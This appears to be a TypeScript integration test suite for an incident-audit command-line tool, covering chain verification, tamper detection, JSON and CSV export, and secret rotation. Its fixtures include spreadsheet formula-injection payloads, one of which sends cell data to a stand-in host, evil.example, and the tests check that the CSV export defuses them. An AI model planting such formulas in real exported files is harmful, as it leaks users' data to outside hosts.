import { execFile } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runAudit } from '../../src/cli-audit.ts';
import type { Act } from '../../src/domain/audit-act.ts';
import { type OpenedRecord, openRecord } from '../../src/store/open-record.ts';
import { tellFix } from '../contract/audit-house.ts';
import { sampleEvent, sampleIncident } from '../contract/record-samples.ts';
import { auditKey, testSecret } from '../support/audit-key.ts';
import { createTestDatabase, type TestDatabase } from '../support/databases.ts';
import { freePort } from '../support/server-process.ts';

const cli = resolve(import.meta.dirname, '../../src/cli.ts');
const formula = '=HYPERLINK("http://evil.example?"&A1)';

type Run = { code: number; out: string; err: string };

/** The real command on a real PostgreSQL, as an operator or an auditor types it. */
describe('warroom audit', () => {
  let database: TestDatabase;
  let store: OpenedRecord;
  let folder: string;
  let digest: string;

  beforeAll(async () => {
    database = await createTestDatabase();
    folder = await mkdtemp(join(tmpdir(), 'warroom-audit-'));
    store = await openRecord({ databaseUrl: database.url, dataDir: null, auditKey });
    await store.record.incidents.insert(sampleIncident({ id: 'incident-a' }));
    await store.record.timeline.append('incident-a', sampleEvent({ text: formula }));
    const { plan } = await tellFix(store.record, 'incident-a');
    for (const [kind, actor, reason] of [
      ['plan.undo-requested', 'user:U4', 'slower, "much"\nslower'],
      ['rollback.done', 'warroom', null],
      ['plan.dreamt-of', 'user:U4', '\t@SUM(1)'],
    ] as const) {
      const data = { planId: plan.id, digest: plan.digest, reason };
      await store.record.timeline.append('incident-a', sampleEvent({ kind, actor, text: '-1+1', data }));
    }
    digest = (await store.audit.anchor(0)).anchor?.digest ?? '';
  });
  afterAll(async () => {
    await store.close();
    await database.drop();
    await rm(folder, { recursive: true, force: true });
  });

  function run(
    args: readonly string[],
    change: Readonly<Record<string, string>> = {},
    input = '',
  ): Promise<Run> {
    const env = {
      PATH: process.env['PATH'],
      WARROOM_SECRET: testSecret,
      ALERTMANAGER_WEBHOOK_TOKEN: 'hook-token-of-this-test',
      DATABASE_URL: database.url,
      ...change,
    };
    const { promise, resolve: done } = Promise.withResolvers<Run>();
    const child = execFile(
      process.execPath,
      [cli, 'audit', ...args],
      { cwd: folder, env },
      (error, out, err) =>
        done({ code: typeof error?.code === 'number' ? error.code : error === null ? 0 : -1, out, err }),
    );
    child.stdin?.end(input);
    return promise;
  }

  it('verify says in a sentence what holds, and proves that a kept anchor is extended', async () => {
    const [plain, anchored] = await Promise.all([run(['verify']), run(['verify', '--anchor', digest])]);

    expect(plain).toMatchObject({ code: 0, err: '' });
    expect(plain.out).toMatch(
      /^The audit holds: 2 timelines, 10 entries, 1 anchor; 1 plan, 1 approval, 1 execution, 0 halts, 0 delegations\.\n/,
    );
    expect(plain.out).toContain(`Newest anchor: 1 of `);
    expect(plain.out).toContain(digest);
    expect(anchored).toMatchObject({ code: 0, err: '' });
    expect(anchored.out).toMatch(/This record extends anchor 1 of /);
  });

  it('verify names the first broken place and ends with 1; in JSON for programs', async () => {
    const owner = new Client({ connectionString: database.url });
    await owner.connect();
    await owner.query('alter table timeline disable trigger all');
    await owner.query(`update timeline set actor = 'user:U9' where seq = 4 and incident_id = 'incident-a'`);

    const [plain, json] = await Promise.all([run(['verify']), run(['verify', '--json'])]);
    await owner.query(`update timeline set actor = 'user:U1' where seq = 4 and incident_id = 'incident-a'`);
    await owner.query('alter table timeline enable trigger all');
    await owner.end();

    expect(plain.code).toBe(1);
    expect(plain.out).toMatch(/^The audit is BROKEN\. /);
    expect(plain.out).toMatch(/✗ incident-a, entry 4: .*edited/);
    expect(json.code).toBe(1);
    expect(JSON.parse(json.out)).toMatchObject({
      holds: false,
      problems: [
        { stream: 'incident-a', seq: 4, fault: 'edited' },
        { stream: 'incident-a', fault: 'row' },
        { stream: 'incident-a', seq: 4, fault: 'row' },
      ],
    });
  });

  it('verify tells an audit that is broken from one that could not be checked', async () => {
    const [away, wrongSecret, otherAnchor] = await Promise.all([
      run(['verify'], { DATABASE_URL: `postgres://127.0.0.1:${await freePort()}/none` }),
      run(['verify'], { WARROOM_SECRET: 'another-secret-than-that-one' }),
      run(['verify', '--anchor', 'ab'.repeat(32)]),
    ]);

    expect(away.code).toBe(3);
    expect(away.err).toMatch(/could not be checked.*DATABASE_URL/);
    expect(wrongSecret.code).toBe(3);
    expect(wrongSecret.err).toMatch(/another WARROOM_SECRET.*audit rekey/);
    expect(otherAnchor.code).toBe(1);
    expect(otherAnchor.out).toContain(`the anchor ${'ab'.repeat(32)} is not here`);
  });

  it.each([
    [[]],
    [['prove']],
    [['verify', '--anchor', 'abc']],
    [['verify', '-x']],
    [['export', '--format', 'xml']],
    [['export', '--since', 'noon']],
  ])('refuses %j as wrong usage with 2, and says what is right', async (args) => {
    const said = vi.spyOn(process.stderr, 'write').mockReturnValue(true);

    const code = await runAudit(args);
    const text = said.mock.calls.join('');
    said.mockRestore();

    expect(code).toBe(2);
    expect(text).toContain('export [--format json|csv]');
  });

  it('export gives who saw, clicked, ran and undid what, as JSON', async () => {
    const [all, late, unknown] = await Promise.all([
      run(['export']),
      run(['export', '--since', '2999-01-01']),
      run(['export', '--incident', 'incident-z']),
    ]);

    const acts = JSON.parse(all.out) as Act[];
    expect(acts.map((act) => `${act.actor} ${act.action}`)).toEqual([
      'warroom incident.opened',
      'agent:billing offered',
      'warroom shown',
      'user:U1 approved',
      'warroom ran',
      'warroom verified',
      'user:U4 undo-requested',
      'warroom undone',
      'user:U4 plan.dreamt-of',
      'warroom anchored',
    ]);
    expect(acts[3]).toMatchObject({
      incident: 'incident-a',
      remedies: ['revert-commit'],
      services: ['billing'],
      inNameOf: 'U2',
      reason: 'looks right',
      seq: 4,
    });
    expect(acts[3]?.digest).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.parse(late.out)).toEqual([]);
    expect(unknown).toMatchObject({
      code: 1,
      out: '',
      err: 'There is no timeline of an incident incident-z.\n',
    });
  });

  it('export writes CSV in which no cell is a formula, whole or not at all', async () => {
    const file = join(folder, 'acts.csv');
    const nowhere = join(folder, 'missing', 'acts.csv');

    const [written, failed] = await Promise.all([
      run(['export', '--format', 'csv', '--incident', 'incident-a', '--output', file]),
      run(['export', '--format', 'csv', '--output', nowhere]),
    ]);

    expect(written).toMatchObject({ code: 0, out: '' });
    expect(written.err).toContain(`9 acts in ${file}`);
    const text = await readFile(file, 'utf8');
    expect(text.split('\n')[0]).toBe(
      'at,incident,plan,digest,remedies,services,actor,action,inNameOf,reason,text,seq,hash',
    );
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example?""&A1)"`);
    expect(text).toContain(`"slower, ""much""\nslower"`);
    expect(text).toContain(`,'\t@SUM(1),'-1+1,`);
    expect(failed.code).toBe(1);
    expect(await readdir(folder)).toEqual(['acts.csv']);
  });

  it('rekey brings the record over to a new secret, and covers nothing up', async () => {
    const fresh = { WARROOM_SECRET: 'a-new-secret-for-the-record' };
    const owner = new Client({ connectionString: database.url });
    await owner.connect();
    await owner.query(`update plans set state = 'pending'`).catch(() => undefined);
    await owner.query(`update row_seals set mac = 'x' where relation = 'executions'`);
    await owner.end();

    const wrong = await run(['rekey'], fresh, 'not-the-old-secret\n');
    const rekeyed = await run(['rekey'], fresh, `${testSecret}\n`);
    const [underNew, underOld] = await Promise.all([run(['verify', '--json'], fresh), run(['verify'])]);

    expect(wrong.code).toBe(1);
    expect(wrong.err).toContain('another WARROOM_SECRET');
    expect(rekeyed).toMatchObject({ code: 0, out: 'The record is sealed with the new secret.\n' });
    expect(underNew.code).toBe(1);
    expect(JSON.parse(underNew.out)).toMatchObject({
      problemCount: 2,
      problems: [{ fault: 'row' }, { fault: 'row' }],
    });
    expect(underOld.code).toBe(3);
  });
});
